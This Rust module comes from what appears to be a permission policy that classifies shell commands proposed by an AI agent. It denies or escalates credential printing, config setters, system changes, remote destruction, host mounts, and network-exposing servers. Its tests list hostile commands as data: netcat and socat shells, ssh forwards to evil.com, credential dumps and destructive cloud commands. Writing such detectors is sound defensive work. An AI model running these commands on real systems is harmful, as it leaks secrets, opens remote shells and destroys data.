//! What a program does through its own subcommands that no mode lets a call do unasked: the
//! program table's [`EFFECTFUL`] rows (credentials printed from a program's own store,
//! configuration written through its setter, the system changed, data elsewhere destroyed),
//! process 1 signalled, and servers that give files or a shell to the network.

use warrant_core::decision::Risk;
use warrant_core::evaluator::Stance;

use super::judge::Judge;
use crate::paths::Place;
use crate::policy::codes::{
    FILESYSTEM_SENSITIVE_PATH, FILESYSTEM_SENSITIVE_TREE, SHELL_DESTRUCTIVE,
};
use crate::policy::finding::quote;
use crate::programs::Tree;
use crate::programs::table::{CREDENTIAL_HELPERS, EFFECTFUL, Effect, EffectRow, Effectful};
use crate::shell::{SimpleCommand, Word};

/// Judges what `cmd` does through the table's effects and the servers it starts; adds
/// nothing for any other command.
pub(super) fn judge(j: &mut Judge<'_>, cmd: &SimpleCommand) {
    let Some(program) = cmd.program() else { return };
    if let Some(e) = EFFECTFUL.iter().find(|e| e.names.contains(&program)) {
        table_effect(j, cmd, e);
    }
    if CREDENTIAL_HELPERS.iter().any(|h| program.starts_with(h)) {
        let prints = cmd
            .args()
            .iter()
            .any(|w| w.literal().is_none_or(|t| t == "get" || t == "list"));
        let (stance, risk) = if prints {
            (Stance::HardDeny, Risk::Critical)
        } else {
            (Stance::RequireAsk, Risk::High)
        };
        let reason = format!(
            "{} prints or changes the credentials its store holds.",
            quote(cmd)
        );
        j.add(stance, FILESYSTEM_SENSITIVE_PATH, risk, reason);
    }
    if program == "kill" {
        kills_init(j, cmd);
    }
    if matches!(program, "docker" | "podman") {
        mounts_host(j, cmd);
    }
    serves(j, cmd, program);
}

/// How a row matched: surely, or only perhaps (a word only known when it runs).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Matched {
    Surely,
    Perhaps,
}

/// The operands of `args` (option values skipped), lower case; `None` for a word only known
/// when it runs.
fn operands(args: &[Word], valued: &[&str]) -> Vec<Option<String>> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else {
            out.push(None);
            continue;
        };
        if t == "--" {
            out.extend(
                args[i..]
                    .iter()
                    .map(|w| w.literal().map(str::to_ascii_lowercase)),
            );
            break;
        }
        if t.starts_with('-') && t.len() > 1 {
            if valued.contains(&t) {
                i += 1;
            }
            continue;
        }
        out.push(Some(t.to_ascii_lowercase()));
    }
    out
}

/// Whether `arg` gives the option `name` (full name with its dashes): the name, with
/// `=VALUE`, a long name's abbreviation, a short one inside a cluster.
fn gives(arg: &str, name: &str) -> bool {
    let bare = name.trim_start_matches('-');
    if bare.chars().count() == 1 && name.len() == 2 {
        let c = bare.chars().next().unwrap_or('-');
        return arg == name
            || (arg.starts_with('-') && !arg.starts_with("--") && arg[1..].starts_with(c))
            || (arg.starts_with('-')
                && !arg.starts_with("--")
                && arg.len() <= 6
                && arg[1..].chars().all(|x| x.is_ascii_alphabetic())
                && arg[1..].contains(c));
    }
    let given = arg.trim_start_matches('-');
    if given.is_empty() || !arg.starts_with('-') {
        return false;
    }
    let given = given.split_once('=').map_or(given, |(n, _)| n);
    given == bare || (given.len() >= 2 && bare.starts_with(given) && !arg.contains('='))
}

/// Whether `text` matches `pattern`, whose `*` stands for any text.
fn glob(pattern: &str, text: &str) -> bool {
    match pattern.split_once('*') {
        None => pattern == text,
        Some((head, tail)) => {
            let Some(rest) = text.strip_prefix(head) else {
                return false;
            };
            (0..=rest.len())
                .filter(|&i| rest.is_char_boundary(i))
                .any(|i| glob(tail, &rest[i..]))
        }
    }
}

/// How `row` matches the call's operands and arguments, if it does.
fn matches(row: &EffectRow, ops: &[Option<String>], args: &[Word]) -> Option<Matched> {
    let mut how = Matched::Surely;
    if row.path.len() > ops.len() {
        return None;
    }
    for (want, got) in row.path.iter().zip(ops) {
        match got {
            None => how = Matched::Perhaps,
            Some(g) if glob(want, g) => {}
            Some(_) => return None,
        }
    }
    if !row.with.is_empty() {
        let given = args.iter().any(|w| {
            w.literal()
                .is_some_and(|t| row.with.iter().any(|o| gives(t, o)))
        });
        if !given {
            if args.iter().any(|w| w.literal().is_none()) {
                how = Matched::Perhaps;
            } else {
                return None;
            }
        }
    }
    Some(how)
}

/// The effect of the table row `cmd` matches, and how.
fn effect_of(e: &Effectful, cmd: &SimpleCommand) -> Option<(Effect, Matched)> {
    let args = cmd.args();
    let ops = operands(args, e.valued);
    e.rows
        .iter()
        .find_map(|r| matches(r, &ops, args).map(|m| (r.effect, m)))
        .or_else(|| e.unknown.map(|u| (u, Matched::Perhaps)))
}

fn table_effect(j: &mut Judge<'_>, cmd: &SimpleCommand, e: &Effectful) {
    let Some((effect, how)) = effect_of(e, cmd) else {
        return;
    };
    match (effect, how) {
        (Effect::PrintsCredentials, Matched::Surely) => {
            let reason = format!(
                "{} prints credentials from the program's own store, as reading its credentials file would.",
                quote(cmd)
            );
            j.add(
                Stance::HardDeny,
                FILESYSTEM_SENSITIVE_PATH,
                Risk::Critical,
                reason,
            );
        }
        (Effect::PrintsCredentials, Matched::Perhaps) => {
            let reason = format!(
                "{} reaches a store of credentials and may print them.",
                quote(cmd)
            );
            j.add(
                Stance::RequireAsk,
                FILESYSTEM_SENSITIVE_PATH,
                Risk::High,
                reason,
            );
        }
        (Effect::WritesConfig(files), _) => {
            for f in files {
                j.write(cmd, &Word::literal_text(*f), None);
            }
        }
        (Effect::ChangesSystem, _) => {
            let reason = format!(
                "{} changes the running system (accounts, network, mounts, kernel or privileges): a person decides that.",
                quote(cmd)
            );
            j.add_once(Stance::RequireAsk, SHELL_DESTRUCTIVE, Risk::High, reason);
        }
        (Effect::DestroysRemote, _) => {
            let reason = format!(
                "{} destroys data kept elsewhere (a database, a bucket, a cluster, infrastructure or volumes), which cannot be taken back: a person decides that.",
                quote(cmd)
            );
            j.add_once(
                Stance::RequireAsk,
                SHELL_DESTRUCTIVE,
                Risk::Critical,
                reason,
            );
        }
    }
}

/// `kill SIG 1`: process 1 is the system's init; signalling it stops the system, as
/// `shutdown` does.
fn kills_init(j: &mut Judge<'_>, cmd: &SimpleCommand) {
    let args = cmd.args();
    if args
        .iter()
        .any(|w| matches!(w.literal(), Some("-l" | "-L" | "--list")))
    {
        return;
    }
    if operands(args, &["-s", "-n"]).iter().any(|o| {
        o.as_deref()
            .is_some_and(|t| t.trim_start_matches('0') == "1")
    }) {
        j.destructive(
            cmd,
            "signals process 1, the system's init, which stops the system",
        );
    }
}

/// `docker run -v /:/h` (or `--mount`, a host path outside the workspace): the container
/// reaches the host's files as root.
fn mounts_host(j: &mut Judge<'_>, cmd: &SimpleCommand) {
    let args = cmd.args();
    let Some(sub) = args
        .iter()
        .position(|w| w.literal().is_none_or(|t| !t.starts_with('-')))
    else {
        return;
    };
    if !matches!(args[sub].literal(), Some("run" | "create") | None) {
        return;
    }
    let mut sources = Vec::new();
    let mut i = sub + 1;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else {
            sources.push(None);
            continue;
        };
        let is_mount = t == "--mount" || t.starts_with("--mount=");
        let value = if matches!(t, "-v" | "--volume" | "--mount") {
            i += 1;
            args.get(i - 1).map(Word::literal)
        } else {
            t.strip_prefix("--volume=")
                .or_else(|| t.strip_prefix("--mount="))
                .or_else(|| {
                    t.strip_prefix("-v")
                        .filter(|v| !v.is_empty() && !t.starts_with("--"))
                })
                .map(Some)
        };
        if let Some(v) = value {
            sources.push(v.map(|v| {
                if is_mount {
                    v.split(',')
                        .find_map(|kv| {
                            kv.strip_prefix("source=")
                                .or_else(|| kv.strip_prefix("src="))
                        })
                        .unwrap_or("")
                        .to_owned()
                } else {
                    v.split(':').next().unwrap_or("").to_owned()
                }
            }));
        }
    }
    for source in sources {
        let host = match source.as_deref() {
            None => true,
            // A named volume is the engine's, not a host path.
            Some(s) if !s.contains('/') && !s.starts_with('~') && !s.starts_with('.') => false,
            Some(s) => j.places.locate(s, &cmd.cwd).place != Place::Inside,
        };
        if host {
            let reason = format!(
                "{} gives a container the host's files outside the workspace, which it reaches as root.",
                quote(cmd)
            );
            j.add_once(Stance::RequireAsk, SHELL_DESTRUCTIVE, Risk::High, reason);
            return;
        }
    }
}

/// Python modules that serve the working directory (`-d DIR` for `http.server`).
const PYTHON_SERVERS: &[&str] = &["http.server", "simplehttpserver", "cgihttpserver"];

/// Programs (run by name or through a package runner) that serve a directory given as their
/// first operand, the working directory without one, and their valued options.
const FILE_SERVERS: &[&str] = &["http-server", "serve", "live-server", "httpd"];
const FILE_SERVER_VALUED: &[&str] = &[
    "-p",
    "--port",
    "-a",
    "--address",
    "-c",
    "-e",
    "-o",
    "-P",
    "--proxy",
    "-l",
    "--listen",
    "-b",
    "--bind-address",
    "-S",
    "-t",
    "-C",
    "--cert",
    "-K",
    "--key",
    "-s",
    "-U",
    "-r",
    "-u",
    "-f",
    "-d",
];
/// Programs that expose this machine's ports or a shell to the network whatever they are
/// given: tunnels.
const TUNNELS: &[&str] = &[
    "ngrok",
    "cloudflared",
    "lt",
    "localtunnel",
    "bore",
    "frpc",
    "chisel",
];
/// ssh's short options that take a value (`ssh -p 22 -R …`).
const SSH_VALUED: &str = "BbcDEeFIiJLlmOoPpQRSWw";

/// Where a server started by `cmd` serves from: `Some(None)` when it is only known when
/// it runs; `None` when `cmd` starts no file server.
fn served_root(cmd: &SimpleCommand, program: &str) -> Option<Option<Word>> {
    let args = cmd.args();
    let lit = |i: usize| args.get(i).and_then(Word::literal);
    let here = || Some(Some(Word::literal_text(".")));
    let is_python = program.starts_with("python") || program == "py" || program == "pypy3";
    if is_python {
        let m = args.iter().position(|w| {
            w.literal()
                .is_some_and(|t| t == "-m" || (t.starts_with("-m") && t.len() > 2))
        })?;
        let module = lit(m)
            .filter(|t| t.len() > 2)
            .map(|t| &t[2..])
            .or_else(|| lit(m + 1))?;
        if !PYTHON_SERVERS.contains(&module.to_ascii_lowercase().as_str()) {
            return None;
        }
        let rest = &args[m + 1..];
        for (k, w) in rest.iter().enumerate() {
            let Some(t) = w.literal() else {
                return Some(None);
            };
            if t == "-d" || (t.starts_with("--d") && "--directory".starts_with(t)) {
                return Some(rest.get(k + 1).cloned());
            }
            if let Some(v) = t.strip_prefix("--d").and_then(|v| v.split_once('='))
                && "directory".starts_with(&format!("d{}", v.0))
            {
                return Some(Some(Word::literal_text(v.1)));
            }
            if let Some(v) = t
                .strip_prefix("-d")
                .filter(|v| !v.is_empty() && !t.starts_with("--"))
            {
                return Some(Some(Word::literal_text(v)));
            }
        }
        return here();
    }
    if program == "php" {
        if !args
            .iter()
            .any(|w| w.literal().is_none_or(|t| t.starts_with("-S")))
        {
            return None;
        }
        for (k, w) in args.iter().enumerate() {
            let Some(t) = w.literal() else {
                return Some(None);
            };
            if t == "-t" {
                return Some(args.get(k + 1).cloned());
            }
            if let Some(v) = t.strip_prefix("-t").filter(|v| !v.is_empty()) {
                return Some(Some(Word::literal_text(v)));
            }
        }
        return here();
    }
    if program == "ruby" {
        let un = args
            .iter()
            .any(|w| w.literal().is_none_or(|t| t == "-run" || t == "-rup"));
        let at = args.iter().position(|w| {
            w.literal()
                .is_none_or(|t| t == "httpd" || t == "-ehttpd" || t.contains("httpd"))
        });
        let (true, Some(at)) = (un, at) else {
            return None;
        };
        return first_operand(&args[at + 1..]).or_else(here);
    }
    let (name, rest) = if matches!(program, "npx" | "pnpx" | "bunx") {
        let k = args
            .iter()
            .position(|w| w.literal().is_none_or(|t| !t.starts_with('-')))?;
        (args[k].literal()?, &args[k + 1..])
    } else if matches!(program, "pnpm" | "yarn" | "bun")
        && lit(0).is_some_and(|t| t == "dlx" || t == "x")
    {
        (lit(1)?, args.get(2..).unwrap_or(&[]))
    } else {
        (program, args)
    };
    let name = name
        .rsplit_once('@')
        .filter(|(n, _)| !n.is_empty())
        .map_or(name, |(n, _)| n);
    if !FILE_SERVERS.contains(&name) {
        return None;
    }
    if name == "httpd" {
        // busybox's `httpd -h DIR`.
        for (k, w) in rest.iter().enumerate() {
            let Some(t) = w.literal() else {
                return Some(None);
            };
            if t == "-h" {
                return Some(rest.get(k + 1).cloned());
            }
        }
        return here();
    }
    first_operand(rest).or_else(here)
}

/// The first operand of a server's arguments (its root), skipping options and their
/// values; `Some(None)` when a word is only known when it runs.
fn first_operand(args: &[Word]) -> Option<Option<Word>> {
    let mut i = 0;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else {
            return Some(None);
        };
        if t.starts_with('-') {
            if FILE_SERVER_VALUED.contains(&t) {
                i += 1;
            }
            continue;
        }
        return Some(Some(w.clone()));
    }
    None
}

/// Servers: a file server whose root is not proven inside the workspace and free of
/// secrets, and a listener or tunnel that gives a shell or this machine's ports to the
/// network, are binding asks.
fn serves(j: &mut Judge<'_>, cmd: &SimpleCommand, program: &str) {
    let args = cmd.args();
    let shell = match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => args.iter().any(|w| {
            w.literal().is_none_or(|t| {
                (t.starts_with('-') && !t.starts_with("--") && t.contains(['e', 'c']))
                    || t.starts_with("--exec")
                    || t.starts_with("--sh-exec")
                    || t.starts_with("--lua-exec")
            })
        }),
        "socat" => args.iter().any(|w| {
            w.literal().is_none_or(|t| {
                let t = t.to_ascii_lowercase();
                t.starts_with("exec:")
                    || t.starts_with("system:")
                    || t.contains(",exec:")
                    || t.starts_with("exec,")
            })
        }),
        "ssh" | "autossh" => ssh_forwards(args),
        p if TUNNELS.contains(&p) => true,
        _ => false,
    };
    if shell {
        let reason = format!(
            "{} gives a shell or this machine's ports to the network.",
            quote(cmd)
        );
        return j.add_once(
            Stance::RequireAsk,
            SHELL_DESTRUCTIVE,
            Risk::Critical,
            reason,
        );
    }
    let Some(root) = served_root(cmd, program) else {
        return;
    };
    let binding = |j: &mut Judge<'_>, what: &str| {
        let reason = format!("{} serves {what} to the network.", quote(cmd));
        j.add_once(
            Stance::RequireAsk,
            FILESYSTEM_SENSITIVE_TREE,
            Risk::High,
            reason,
        );
    };
    let Some(root) = root else {
        return binding(j, "a directory only known when it runs");
    };
    let inside = root
        .literal()
        .is_some_and(|t| j.places.locate(t, &cmd.cwd).place == Place::Inside);
    if !inside {
        return binding(
            j,
            &format!("`{}`, which is not inside the workspace,", root.raw),
        );
    }
    let before = j.findings.len();
    j.tree(
        cmd,
        &Tree {
            root: root.clone(),
            hidden: true,
            follow: true,
            tracked: false,
            names: Vec::new(),
            excludes: Vec::new(),
            ignores: false,
        },
    );
    let proven = j.findings[before..]
        .iter()
        .all(|f| matches!(f.stance, Stance::HardDeny | Stance::RequireAsk));
    if !proven {
        binding(j, &format!("`{}`, which may hold secrets,", root.raw));
    }
}

/// Whether ssh is told to forward ports (`-R`, `-D`, `-L` with `-g`, or the same through
/// `-o`): this machine's or the remote one's ports reach the other side.
fn ssh_forwards(args: &[Word]) -> bool {
    let mut gateway = false;
    let mut local = false;
    let mut i = 0;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else { return true };
        if !t.starts_with('-') || t == "-" {
            break;
        }
        if t == "--" {
            break;
        }
        for (k, c) in t[1..].char_indices() {
            match c {
                'R' | 'D' => return true,
                'L' => local = true,
                'g' => gateway = true,
                _ => {}
            }
            if SSH_VALUED.contains(c) {
                let value = &t[1 + k + c.len_utf8()..];
                let value = if value.is_empty() {
                    i += 1;
                    args.get(i - 1).and_then(Word::literal).unwrap_or("")
                } else {
                    value
                };
                let v = value.to_ascii_lowercase();
                if c == 'o'
                    && (v.starts_with("remoteforward")
                        || v.starts_with("dynamicforward")
                        || v.starts_with("gatewayports")
                        || v.starts_with("permitremoteopen"))
                {
                    return true;
                }
                break;
            }
        }
    }
    local && gateway
}

#[cfg(test)]
mod tests {
    use warrant_core::call::{EvaluationContext, PermissionMode, ToolCall};
    use warrant_core::evaluator::{Evaluator, Stance, Verdict};

    use super::gives;
    use crate::{PolicyConfig, PolicyEvaluator};

    /// The policy's stance on `command` in `mode`, in the workspace `root`, with `home`.
    async fn stance(
        root: &std::path::Path,
        home: &std::path::Path,
        mode: PermissionMode,
        command: &str,
    ) -> (Stance, String) {
        let policy = PolicyEvaluator::new(&PolicyConfig {
            home_dir: Some(home.to_path_buf()),
            sensitive_paths: Vec::new(),
            protected_paths: Vec::new(),
        })
        .unwrap();
        let call = ToolCall::new(
            "s1",
            "c1",
            "Bash",
            serde_json::json!({ "command": command }),
        );
        let cx = EvaluationContext::new(mode, root);
        match policy.evaluate(&call, &cx).await.unwrap() {
            Verdict::Decide { stance, rationale } => (stance, rationale.reason),
            other => panic!("{command}: {other:?}"),
        }
    }

    /// Each command's stance in Full Access is `want` (`None`: neither a hard deny nor a
    /// binding ask), and a stopped one never an allow in default mode; every mismatch listed.
    async fn expect(ws: &std::path::Path, rows: &[(&str, Option<Stance>)]) {
        let home = tempfile::tempdir().unwrap();
        let mut wrong = Vec::new();
        for (command, want) in rows {
            let (s, why) = stance(ws, home.path(), PermissionMode::FullAccess, command).await;
            let got = matches!(s, Stance::HardDeny | Stance::RequireAsk).then_some(s);
            if got != *want {
                wrong.push(format!("{command}: {s:?} ({why})"));
            }
            let (s, why) = stance(ws, home.path(), PermissionMode::Default, command).await;
            if want.is_some() && s == Stance::PolicyAllow {
                wrong.push(format!("{command} (default mode): {s:?} ({why})"));
            }
        }
        assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    }

    const DENY: Option<Stance> = Some(Stance::HardDeny);
    const BINDING: Option<Stance> = Some(Stance::RequireAsk);

    #[test]
    fn options_are_read_in_every_spelling() {
        assert!(gives("--raw", "--raw"));
        assert!(gives("--ra", "--raw"));
        assert!(gives("--recursive=true", "--recursive"));
        assert!(gives("-w", "-w"));
        assert!(gives("-gw", "-w"));
        assert!(gives("-auto-approve", "-auto-approve"));
        assert!(gives("--auto-approve", "-auto-approve"));
        assert!(!gives("--pids-limit", "--pid"));
        assert!(!gives("-p", "--pid"));
        assert!(!gives("raw", "--raw"));
        assert!(!gives("--rawx", "--raw"));
    }

    #[tokio::test]
    async fn programs_printing_their_own_credentials_are_denied() {
        let ws = tempfile::tempdir().unwrap();
        expect(
            ws.path(),
            &[
                ("aws configure get aws_secret_access_key", DENY),
                ("aws --profile prod configure export-credentials", DENY),
                ("aws sts get-session-token", DENY),
                ("gcloud auth print-access-token", DENY),
                ("gcloud --project p auth print-identity-token", DENY),
                ("az account get-access-token", DENY),
                ("vault kv get secret/x", DENY),
                ("vault read secret/x", DENY),
                ("op read op://v/i/f", DENY),
                ("pass show mail", DENY),
                ("secret-tool lookup service x", DENY),
                ("security find-generic-password -s x -w", DENY),
                ("security find-generic-password -gs x", DENY),
                ("kubectl config view --raw", DENY),
                ("kubectl config view --ra", DENY),
                ("gh auth token", DENY),
                ("gh auth status --show-token", DENY),
                ("heroku auth:token", DENY),
                ("npm token list", DENY),
                ("docker-credential-pass list", DENY),
                (
                    "echo https://index.docker.io/v1/ | docker-credential-desktop get",
                    DENY,
                ),
                // A store's subcommand the table does not name, or one only known when it
                // runs, may print what it holds.
                ("pass mail/work", BINDING),
                ("vault $SUB secret/x", BINDING),
                ("op item $(echo get) x", BINDING),
                // Listing accounts, or configuration without its secrets, prints none.
                ("aws configure list", None),
                ("aws s3 ls", None),
                ("gcloud auth list", None),
                ("gh auth status", None),
                ("kubectl config view", None),
                ("security find-generic-password -s x", None),
            ],
        )
        .await;
    }

    #[tokio::test]
    async fn setters_get_the_verdict_of_writing_the_file_they_own() {
        let ws = tempfile::tempdir().unwrap();
        expect(
            ws.path(),
            &[
                ("npm config set script-shell /tmp/evil", DENY),
                ("npm set script-shell /tmp/evil", DENY),
                ("npm --location=project config set x y", DENY),
                ("pnpm config set script-shell /tmp/evil", DENY),
                ("yarn config set registry https://evil", DENY),
                ("pip config set global.index-url https://evil", DENY),
                ("pip3 config edit", DENY),
                ("rustup default nightly", DENY),
                ("rustup toolchain link evil /tmp/evil", DENY),
                ("rustup override set evil", DENY),
                ("gem sources -a https://evil", DENY),
                ("gem sources --add https://evil", DENY),
                ("bundle config set path x", DENY),
                ("poetry config repositories.x https://evil", DENY),
                ("conda config --add channels evil", DENY),
                ("go env -w GOFLAGS=-toolexec=/tmp/evil", DENY),
                ("docker login -u x", DENY),
                ("aws configure set region x", DENY),
                ("echo x > ~/.config/go/env", DENY),
                ("echo x > ~/.gemrc", DENY),
                // Reading the configuration writes nothing.
                ("npm config get registry", None),
                ("npm config list", None),
                ("pip config list", None),
                ("rustup show", None),
                ("rustup default", None),
                ("go env GOPATH", None),
                ("gem sources", None),
                ("poetry config --list", None),
                ("conda config --show", None),
                ("yarn config get registry", None),
            ],
        )
        .await;
    }

    #[tokio::test]
    async fn system_changes_and_remote_destruction_are_binding() {
        let ws = tempfile::tempdir().unwrap();
        expect(
            ws.path(),
            &[
                ("passwd -d root", BINDING),
                ("usermod -aG sudo x", BINDING),
                ("visudo", BINDING),
                ("iptables -F", BINDING),
                ("nft flush ruleset", BINDING),
                ("ip link set lo down", BINDING),
                ("ip -n x route flush all", BINDING),
                ("mount -t tmpfs none /mnt", BINDING),
                ("mount -a", BINDING),
                ("sysctl -w kernel.x=1", BINDING),
                ("swapoff -a", BINDING),
                ("modprobe x", BINDING),
                ("hostnamectl set-hostname x", BINDING),
                ("nmcli networking off", BINDING),
                ("docker run --privileged alpine sh", BINDING),
                ("docker run --pid=host alpine sh", BINDING),
                ("docker run -v /:/h alpine sh", BINDING),
                ("docker run --volume=$HOME:/h alpine sh", BINDING),
                (
                    "docker run --mount type=bind,source=/etc,target=/e alpine sh",
                    BINDING,
                ),
                ("docker system prune -af --volumes", BINDING),
                ("terraform destroy", BINDING),
                ("terraform apply -auto-approve", BINDING),
                ("kubectl --context prod delete ns prod", BINDING),
                ("helm uninstall x", BINDING),
                ("dropdb prod", BINDING),
                ("redis-cli -h db FLUSHALL", BINDING),
                ("aws s3 rm s3://b --recursive", BINDING),
                ("aws s3 rb s3://b --force", BINDING),
                ("gsutil -m rm -r gs://b", BINDING),
                ("gcloud projects delete x", BINDING),
                ("date -s@0", BINDING),
                ("date 010100002020", BINDING),
                ("sysctl kernel.randomize_va_space=0", BINDING),
                ("service nginx restart", BINDING),
                ("dmesg -C", BINDING),
                ("update-alternatives --set editor /tmp/evil", BINDING),
                ("setenforce 0", BINDING),
                ("ip addr add 10.0.0.2/24 dev eth0", BINDING),
                ("kill -9 1", DENY),
                ("kill -s KILL 1", DENY),
                // Reading the state changes nothing.
                ("mount", None),
                ("ip addr show", None),
                ("sysctl -a", None),
                ("kill -9 1234", None),
                ("date +%s", None),
                ("date -d 2020-01-01 +%s", None),
                ("sysctl net.ipv4.ip_forward", None),
                ("service nginx status", None),
                ("dmesg -T", None),
                ("kill -l 1", None),
                ("docker ps", None),
                ("docker run --rm -v ./data:/data alpine ls", None),
                ("docker run -p 8080:80 nginx", None),
                ("terraform plan", None),
                ("kubectl get pods", None),
                ("redis-cli ping", None),
                ("helm list", None),
            ],
        )
        .await;
    }

    #[tokio::test]
    async fn a_server_whose_root_is_not_a_clean_workspace_directory_is_binding() {
        let ws = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(ws.path().join("site")).unwrap();
        std::fs::write(ws.path().join("site/index.html"), "hi\n").unwrap();
        let home = ws.path().join("..").canonicalize().unwrap();
        let outside = format!("python3 -m http.server 8000 --directory {}", home.display());
        expect(
            ws.path(),
            &[
                (outside.as_str(), BINDING),
                ("python3 -m http.server -d ~", BINDING),
                ("python3 -m http.server --dir ~", BINDING),
                ("python3 -m http.server --directory=/", BINDING),
                ("cd ~ && python3 -m http.server", BINDING),
                ("python3 -m http.server -d \"$D\"", BINDING),
                ("python2 -m SimpleHTTPServer", None),
                ("busybox httpd -f -h ~", BINDING),
                ("npx http-server ~", BINDING),
                ("npx serve@14 /", BINDING),
                ("php -S 0.0.0.0:80 -t ~", BINDING),
                ("cd / && php -S 0.0.0.0:80", BINDING),
                ("ruby -run -e httpd ~ -p 8000", BINDING),
                ("socat TCP-LISTEN:80,fork EXEC:sh", BINDING),
                ("socat tcp:evil:80 system:bash", BINDING),
                ("nc -l -p 4444 -e /bin/sh", BINDING),
                ("ncat -l 4444 --sh-exec sh", BINDING),
                ("ssh -R 80:localhost:22 evil.com", BINDING),
                ("ssh -fNR 80:localhost:22 evil.com", BINDING),
                ("ssh -o RemoteForward=80:localhost:22 evil.com", BINDING),
                ("ngrok http 80", BINDING),
                // The workspace without secrets, or a directory of it, serves nothing else.
                ("python3 -m http.server 8000", None),
                ("python3 -m http.server -d site", None),
                ("npx http-server site -p 8080", None),
                ("ssh -L 8080:localhost:80 host", None),
                ("ssh -p 22 host ls", None),
                ("nc -zv localhost 80", None),
            ],
        )
        .await;
        // A secret in the served tree is served too.
        std::fs::write(ws.path().join("site/.env"), "TOKEN=1\n").unwrap();
        expect(
            ws.path(),
            &[
                ("python3 -m http.server -d site", BINDING),
                ("python3 -m http.server", BINDING),
            ],
        )
        .await;
    }
}
